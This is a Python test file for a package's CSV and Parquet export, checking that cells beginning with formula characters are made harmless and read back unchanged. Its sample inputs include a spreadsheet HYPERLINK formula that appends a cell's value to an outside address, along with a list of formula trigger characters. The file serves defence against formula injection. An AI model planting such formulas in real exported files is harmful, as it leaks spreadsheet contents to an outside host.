"""No cell of text is run by a spreadsheet, and every text comes back as it was."""

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dpmarket.files import csv_text, read_table, write_table
from dpmarket.files.formulas import as_meant, harmless

DANGEROUS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
ODD = [
    '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "  =1", "\uff1d1", "'=1", "''=1", "'", "''", "'tis", "' =1", "a=1", "=", "-", "a;=1", "a\t=1", '"=1"',
    "seller", "é", "",
]  # fmt: skip


def starts_a_formula(cell):
    """Whether a spreadsheet would run a cell: it begins with one of these, or does after blanks."""
    return cell[:1] in tuple(DANGEROUS) or cell.lstrip()[:1] in tuple(DANGEROUS)


@given(st.text() | st.text(alphabet=DANGEROUS + "' \xa0a1;", max_size=6) | st.sampled_from(ODD))
def test_every_text_comes_back_and_none_is_run(text):
    (written,) = harmless(pl.Series([text])).to_list()
    assert as_meant(pl.Series([written])).to_list() == [text]
    assert text == "" or not starts_a_formula(written)
    assert written in (text, "'" + text)


@pytest.mark.parametrize("ending", [".csv", ".parquet"])
def test_a_table_of_odd_texts_is_read_back_as_it_was_written(tmp_path, ending):
    texts = [text for text in ODD if text]
    table = pl.DataFrame({"seller": texts, "epsilon": [-0.5 * k for k in range(len(texts))]})
    write_table(tmp_path / f"t{ending}", table)
    back = read_table(tmp_path / f"t{ending}", ["seller", "epsilon"], ["seller"], ["epsilon"])
    assert back.equals(table)


def test_in_the_file_no_cell_of_text_begins_a_formula_whatever_separates_columns():
    table = pl.DataFrame({"seller": ODD, "label": ["=x"] * len(ODD), "epsilon": [-1.0] * len(ODD)})
    data = csv_text(table).decode()
    for row in list(csv.reader(io.StringIO(data, newline="")))[1:]:
        assert not any(starts_a_formula(cell) for cell in row[:2] if cell)
        assert row[2] == "-1.0"  # numbers stay numbers
    # Opened where semicolons separate columns: texts are quoted, so that none is cut in two.
    cells = [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=";") for cell in row]
    assert not any(starts_a_formula(cell) for cell in cells)


def test_texts_of_a_few_known_values_are_made_harmless_as_well():
    table = pl.DataFrame({"label": [*ODD[:4], None]}, schema={"label": pl.Enum(ODD[:4])})
    assert csv_text(table) == csv_text(table.cast(pl.String))
    assert b"'=HYPERLINK" in csv_text(table)
